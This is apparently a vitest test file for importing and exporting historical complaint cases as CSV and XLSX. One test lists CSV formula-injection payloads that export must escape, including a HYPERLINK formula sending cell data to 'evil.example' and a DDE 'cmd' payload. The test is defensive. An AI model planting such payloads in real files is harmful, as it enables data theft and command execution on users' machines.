import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AppContext, Config } from '../src/app/context.ts';
import { parseCsv, readTable, toCsv, writeXlsx } from '../src/transfer/table-file.ts';
import { NO_RECEIPT, importCases } from '../src/transfer/import.ts';
import { exportCases } from '../src/transfer/export.ts';
import { submitterOf } from '../src/notify/recipients.ts';
import { findCaseByTrackingNo, openCases } from '../src/store/cases.repository.ts';
import { sameHash, secretHash } from '../src/app/secrets.ts';
import { RECEIPT_PURPOSE } from '../src/app/submit.ts';
import { BACKENDS, openTestApp } from './support/backends.ts';
import { cliEnv, runCli } from './support/cli.ts';

const HEADER = [
  '受理编号',
  '类型',
  '渠道',
  '收到时间',
  '主题',
  '内容',
  '匿名',
  '投诉人',
  '电话',
  '邮箱',
  '类别',
  '状态',
  '结论',
  '办结时间',
];
const good = (i: number) => [
  `HIS-2024-${String(i).padStart(4, '0')}`,
  '投诉',
  '电话',
  '2024-03-05 14:30',
  `历史投诉 ${i}`,
  '送货延误三天。',
  '否',
  `客户${i}`,
  '13800000000',
  '',
  'delivery',
  '',
  '',
  '',
];
const mixed = () => [
  HEADER,
  good(1),
  ['', '投诉', '飞鸽传书', '2024-03-06', '渠道不对', '…', '否', '王五', '', '', '', '', '', ''],
  good(3),
  ['', '投诉', '来访', '2024/13/40 10:00', '', '日期和主题都不对', '否', '赵六', '', 'not-mail', '', 'closed', '', ''],
  ['HIS-2024-0001', '建议', '来信', '2024-03-07', '编号重复', '…', '是', '', '', '', '', '', '', ''],
];
const where = (problems: { row: number; column: string }[]) => problems.map((p) => `${p.row}:${p.column}`);

/** Import and export of historical cases (issue 7): real files, a real database, and the CLI as a user runs it. */
describe.each(BACKENDS)('import and export on $name', (backend) => {
  let ctx: AppContext;
  let config: Config;
  let cleanup: () => Promise<void>;
  const dir = mkdtempSync(join(tmpdir(), 'plaint-import-'));
  const count = async () =>
    Number(
      (
        await ctx.store.db
          .selectFrom('cases')
          .select((eb) => eb.fn.countAll().as('n'))
          .executeTakeFirstOrThrow()
      ).n,
    );
  const opts = { procedure: 'customer-complaint' };

  beforeAll(async () => {
    ({ ctx, config, cleanup } = await openTestApp(backend));
  });
  afterAll(async () => cleanup?.());

  it('plaint import reports every bad row by row and column, shows progress, and imports nothing', async () => {
    const file = join(dir, 'mixed.csv');
    writeFileSync(file, toCsv(mixed()));
    const r = await runCli(['import', file, '--procedure', 'customer-complaint'], cliEnv(config));
    expect(r.code, r.stderr).toBe(1);
    const lines = r.stdout
      .split('\n')
      .filter((l) => /^\d+\t/.test(l))
      .map((l) => l.split('\t').slice(0, 2).join(':'));
    expect(lines).toEqual(['3:channel', '5:receivedAt', '5:subject', '5:submitterEmail', '6:trackingNo']);
    expect(r.stdout).toContain('未导入任何案件 / nothing imported');
    expect(r.stderr).toContain('校验 / checking [##############################] 5/5');
    expect(await count()).toBe(0);
  }, 180_000);

  it('writes nothing on a dry run and only the good rows when told to skip the bad ones', async () => {
    const table = await readTable(join(dir, 'mixed.csv'));
    const dry = await importCases(ctx, table, { ...opts, dryRun: true, skipInvalid: true });
    expect([dry.valid, dry.imported]).toEqual([2, 0]);
    expect(await count()).toBe(0);
    const phases: string[] = [];
    const r = await importCases(ctx, table, {
      ...opts,
      skipInvalid: true,
      progress: (phase, done, total) => phases.push(`${phase} ${done}/${total}`),
    });
    expect(r.imported).toBe(2);
    expect(phases).toEqual(['check 5/5', 'write 2/2']);
    const rows = await ctx.store.db.selectFrom('cases').selectAll().orderBy('tracking_no').execute();
    expect(rows.map((x) => [x.tracking_no, x.channel, x.received_at, x.category, x.status])).toEqual([
      ['HIS-2024-0001', 'phone', '2024-03-05T06:30:00.000Z', 'delivery', 'received'],
      ['HIS-2024-0003', 'phone', '2024-03-05T06:30:00.000Z', 'delivery', 'received'],
    ]);
    expect(submitterOf((await openCases(ctx.store.db, rows))[0])).toEqual({ name: '客户1', phone: '13800000000' });
    // Nobody holds a receipt for history: the stored marker matches no receipt's hash.
    expect(rows.map((x) => x.receipt_hash)).toEqual([NO_RECEIPT, NO_RECEIPT]);
    expect(sameHash(secretHash(ctx.secrets, RECEIPT_PURPOSE, 'ABCD-EFGH-JKMN-PQRS'), NO_RECEIPT)).toBe(false);
    // History sends nobody anything, and the import is one audit record.
    expect(await ctx.store.db.selectFrom('outbox').select('idempotency_key').execute()).toEqual([]);
    expect(
      await ctx.store.db.selectFrom('audit_log').select('action').where('action', '=', 'case.import').execute(),
    ).toHaveLength(1);
    // The same file again: its numbers exist now.
    const again = await importCases(ctx, table, opts);
    expect(where(again.problems)).toEqual([
      '2:trackingNo',
      '3:channel',
      '4:trackingNo',
      '5:receivedAt',
      '5:subject',
      '5:submitterEmail',
      '6:trackingNo',
    ]);
    expect(again.problems[0].problem).toContain('已存在');
    expect(await count()).toBe(2);
  });

  it('reads .xlsx and GB18030 CSV (as Excel saves it), and export writes the same format back', async () => {
    const xlsx = join(dir, `cases-${backend.name}.xlsx`);
    await writeXlsx(xlsx, [
      HEADER,
      ['', '建议', '投诉箱', '2024-05-01', '门店增加座椅', '希望门店多放几把椅子。', '是', '', '', '', '', '', '', ''],
    ]);
    expect((await importCases(ctx, await readTable(xlsx), opts)).imported).toBe(1);
    const gbk = join(dir, `gbk-${backend.name}.csv`);
    const line =
      'HIS-2023-0009,投诉,第三方,2023-12-01 09:00,消协转来的投诉,价格欺诈。,否,孙七,,,price-billing,closed,substantiated,2023-12-20 17:00';
    writeFileSync(gbk, iconv.encode(`${HEADER.join(',')}\r\n${line}\r\n`, 'gb18030'));
    expect(where((await importCases(ctx, await readTable(gbk), opts)).problems)).toEqual(['2:thirdParty']); // a third-party case names the body
    writeFileSync(
      gbk,
      iconv.encode(`${HEADER.join(',')},转办机构,转办编号\r\n${line},市消费者协会,XH-2023-118\r\n`, 'gb18030'),
    );
    expect((await importCases(ctx, await readTable(gbk), opts)).imported).toBe(1);
    // As the store opens it: subject and form data are sealed under the case key (issue 24).
    const closed = (await findCaseByTrackingNo(ctx.store.db, 'HIS-2023-0009'))!;
    expect([closed.subject, closed.channel, closed.status, closed.outcome, closed.closed_at]).toEqual([
      '消协转来的投诉',
      'third-party',
      'closed',
      'substantiated',
      '2023-12-20T09:00:00.000Z',
    ]);
    expect(JSON.parse(closed.data).thirdParty).toEqual({
      type: 'other',
      name: '市消费者协会',
      reference: 'XH-2023-118',
    });

    const out = join(dir, `export-${backend.name}.xlsx`);
    await writeXlsx(out, await exportCases(ctx, { ...opts, withIdentity: true }));
    const table = await readTable(out);
    expect(table[0][0]).toBe('受理编号 / trackingNo');
    expect(table).toHaveLength(5);
    const byNo = new Map(table.slice(1).map((r) => [r[0], r]));
    expect(byNo.get('HIS-2023-0009')!.slice(1, 8)).toEqual([
      'complaint',
      'third-party',
      '2023-12-01 09:00',
      '消协转来的投诉',
      '价格欺诈。',
      '否',
      '孙七',
    ]);
    // Without --with-identity no personal data leaves.
    const masked = await exportCases(ctx, opts);
    expect(JSON.stringify(masked)).not.toMatch(/孙七|13800000000/);
    // The exported file reads back cleanly: every row valid but for the numbers this database has.
    const back = await importCases(ctx, table, { ...opts, dryRun: true });
    expect(back.problems.every((p) => p.column === 'trackingNo' && p.problem.includes('已存在'))).toBe(true);
    expect(back.problems).toHaveLength(4);
  });

  it('writes formula-looking cells of a CSV export behind a quote, and reading strips it again (issue 28)', async () => {
    const dangerous = [
      '=HYPERLINK("http://evil.example/?"&A1,"点击")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '+退款',
      '-5 元',
      '\t=1+1',
      '\r=1+1',
      "'=already quoted",
      "''+twice",
      "'plain quote",
    ];
    const rows = dangerous.map((d, i) => {
      const row = good(900 + i);
      row[4] = d; // 主题
      row[5] = `${d} 内容`; // 内容
      return row;
    });
    expect((await importCases(ctx, [HEADER, ...rows], opts)).imported).toBe(dangerous.length);
    const out = join(dir, `formulas-${backend.name}.csv`);
    const r = await runCli(['export', '--out', out, '--procedure', 'customer-complaint'], cliEnv(config));
    expect(r.code, r.stderr).toBe(0);
    // In the file no cell starts with a character a spreadsheet evaluates.
    const raw = parseCsv(readFileSync(out, 'utf8').replace(/^\uFEFF/, ''));
    for (const cell of raw.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const subjects = new Map(raw.map((row) => [row[0], row[4]]));
    expect(subjects.get('HIS-2024-0900')).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"点击")');
    expect(subjects.get('HIS-2024-0906')).toBe("''=already quoted");
    expect(subjects.get('HIS-2024-0908')).toBe("'plain quote"); // nothing to escape
    // Read back, every value is what was exported.
    expect(await readTable(out)).toEqual(await exportCases(ctx, opts));
    const back = new Map((await readTable(out)).map((row) => [row[0], row[4]]));
    // (A subject is stored trimmed, so the tab and CR ones come back as '=1+1'.)
    dangerous.forEach((d, i) => expect(back.get(`HIS-2024-0${900 + i}`)).toBe(d.trim()));
  }, 180_000);

  it('refuses a file without the required columns', async () => {
    const r = await importCases(
      ctx,
      [
        ['主题', '颜色'],
        ['x', 'red'],
      ],
      opts,
    );
    expect(r.problems.map((p) => `${p.row}:${p.column}:${p.problem.split(' / ')[0]}`)).toEqual([
      '1:颜色:未知列',
      '1:kind:缺少必需的列',
      '1:channel:缺少必需的列',
      '1:receivedAt:缺少必需的列',
      '1:description:缺少必需的列',
    ]);
    await expect(readTable(join(dir, 'x.txt'))).rejects.toThrow(/only .xlsx and .csv/);
  });
});
